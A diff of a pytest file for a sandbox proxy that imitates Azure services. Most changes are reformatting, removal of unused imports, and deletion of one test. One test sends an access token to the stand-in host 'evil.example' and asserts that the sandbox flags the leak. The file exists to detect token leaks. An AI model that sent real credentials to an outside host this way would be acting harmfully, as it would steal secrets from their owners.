@@ -8,12 +8,12 @@ from typing import Any, ClassVar
 
 import pytest
 import requests
-from sandbox_client import ACR_RESOURCE, ARM, REGISTRY, SERVER, WORKSPACE, Client, Start
+from sandbox_client import ACR_RESOURCE, REGISTRY, SERVER, WORKSPACE, Client, Start
 
 from sandbox import Sandbox
 from sandbox.proxy import Proxy, _Stream
 from sandbox.records import Recorder, Refusal
-from sandbox.wire import CUT, Literal, Request, asked_range, json_answer
+from sandbox.wire import Literal, Request, asked_range, json_answer
 
 
 def test_unknown_hosts_are_refused_loudly(start: Start) -> None:
@@ -46,9 +46,7 @@ def test_plain_http_is_refused(start: Start) -> None:
 def test_failures_of_the_sandbox_are_answered_and_recorded(start: Start) -> None:
     """A body that a service cannot read is a 500 that a test can see, never a hang."""
     client = start()
-    path = (
-        REGISTRY.split("/resourceGroups")[0] + "/providers/Microsoft.ContainerRegistry/checkNameAvailability"
-    )
+    path = REGISTRY.split("/resourceGroups")[0] + "/providers/Microsoft.ContainerRegistry/checkNameAvailability"
     assert client.arm(path, method="POST", data="{").status_code == 500
     assert "JSONDecodeError" in client.azure.refused[0].reason
 
@@ -89,9 +87,7 @@ def test_tokens_are_found_in_bodies_too(start: Start) -> None:
     client = start()
     client.refresh_token()
     assert client.azure.violations == []
-    client.call(
-        "POST", "https://evil.example/oauth2/exchange", data={"access_token": client.token(ACR_RESOURCE)}
-    )
+    client.call("POST", "https://evil.example/oauth2/exchange", data={"access_token": client.token(ACR_RESOURCE)})
     assert [it.host for it in client.azure.violations] == ["evil.example"]
 
 
@@ -179,9 +175,7 @@ def test_answers_many_at_once(start: Start) -> None:
 def test_chunked_bodies(start: Start) -> None:
     """A body in chunks is read like any other."""
     client = start()
-    assert (
-        client.call("POST", client.azure.teams_webhook_url, data=iter([b'{"a"', b": 1}"])).status_code == 202
-    )
+    assert client.call("POST", client.azure.teams_webhook_url, data=iter([b'{"a"', b": 1}"])).status_code == 202
     assert client.azure.messages[0].payload == {"a": 1}
 
 
@@ -189,9 +183,7 @@ def test_chunked_bodies(start: Start) -> None:
 def test_what_is_not_http_is_dropped(start: Start, sent: bytes) -> None:
     """A peer that does not speak HTTP is hung up on."""
     client = start()
-    with socket.create_connection(
-        ("127.0.0.1", int(client.azure.url.rpartition(":")[2])), timeout=20
-    ) as peer:
+    with socket.create_connection(("127.0.0.1", int(client.azure.url.rpartition(":")[2])), timeout=20) as peer:
         peer.sendall(sent)
         peer.shutdown(socket.SHUT_WR)
         assert peer.recv(100) == b""
@@ -217,12 +209,11 @@ def test_answer_leaves_in_one_piece() -> None:
 
 def test_stop_closes_what_is_open() -> None:
     """Stopping closes idle connections, so that no client waits for a sandbox that is gone."""
-    proxy = Proxy(lambda _request: CUT, lambda _host: None)
+    proxy = Proxy(lambda _request: json_answer(200, {}), lambda _host: None)
     proxy.start()
     with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as peer:
-        peer.sendall(b"GET / HTTP/1.1\r\n")
-        while not proxy._open:
-            pass
+        peer.sendall(b"GET / HTTP/1.1\r\n\r\n")
+        assert peer.recv(1000).endswith(b"{}")
         proxy.stop()
         assert peer.recv(10) == b""
 
@@ -259,8 +250,3 @@ def test_reading_ranges(header: str | None, span: tuple[int, int] | None) -> Non
     """A range that cannot be read is ignored; one without a byte is none."""
     assert asked_range(header, 10) == span
     assert b"".join(Literal(b"abc").chunks(3, 3)) == b""
-
-
-def test_regular_host(shared: Client) -> None:
-    """The shared sandbox served nothing but what it was asked for."""
-    assert shared.get(f"{ARM}/subscriptions?api-version=2022-12-01").status_code == 401
